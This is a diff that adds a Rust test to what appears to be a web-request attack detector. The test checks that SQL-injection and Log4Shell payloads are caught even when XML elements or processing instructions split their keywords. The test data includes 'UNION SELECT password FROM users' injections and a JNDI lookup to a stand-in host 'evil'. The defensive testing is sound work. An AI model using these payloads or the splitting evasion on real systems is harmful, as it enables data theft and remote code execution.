@@ -414,6 +414,41 @@ mod tests {
         assert!(!at("body:$.x").is_empty());
     }
 
+    /// An attack split by a child element or a processing instruction is found in the text a
+    /// parser joins (`getTextContent()`, XPath's `string()`).
+    #[test]
+    fn attacks_split_in_xml_text_are_found() {
+        let (head, ()) = http::Request::builder()
+            .method("POST")
+            .uri("/orders")
+            .header("content-type", "application/xml")
+            .body(())
+            .unwrap()
+            .into_parts();
+        for (body, class) in [
+            (
+                "<r><q>1' UNI<?x?>ON SELECT password FROM users--</q></r>",
+                Class::Sqli,
+            ),
+            (
+                "<r><q>1' UNI<b/>ON SELECT password FROM users--</q></r>",
+                Class::Sqli,
+            ),
+            ("<r><q>x' O<b/>R 'a'='a</q></r>", Class::Sqli),
+            ("<r><q>${jn<?x?>di:ldap://evil/a}</q></r>", Class::Log4Shell),
+        ] {
+            let out = run(&head, body);
+            assert!(out.blocked, "{body}: {:?}", out.findings);
+            assert!(
+                out.findings
+                    .iter()
+                    .any(|f| f.finding.class == class && f.finding.target == "body:/r/q"),
+                "{body}: {:?}",
+                out.findings
+            );
+        }
+    }
+
     #[test]
     fn the_plain_value_shortcut_hides_no_finding() {
         // Letters, digits, `_` and `-` skip the detectors, but not these: traversal whose
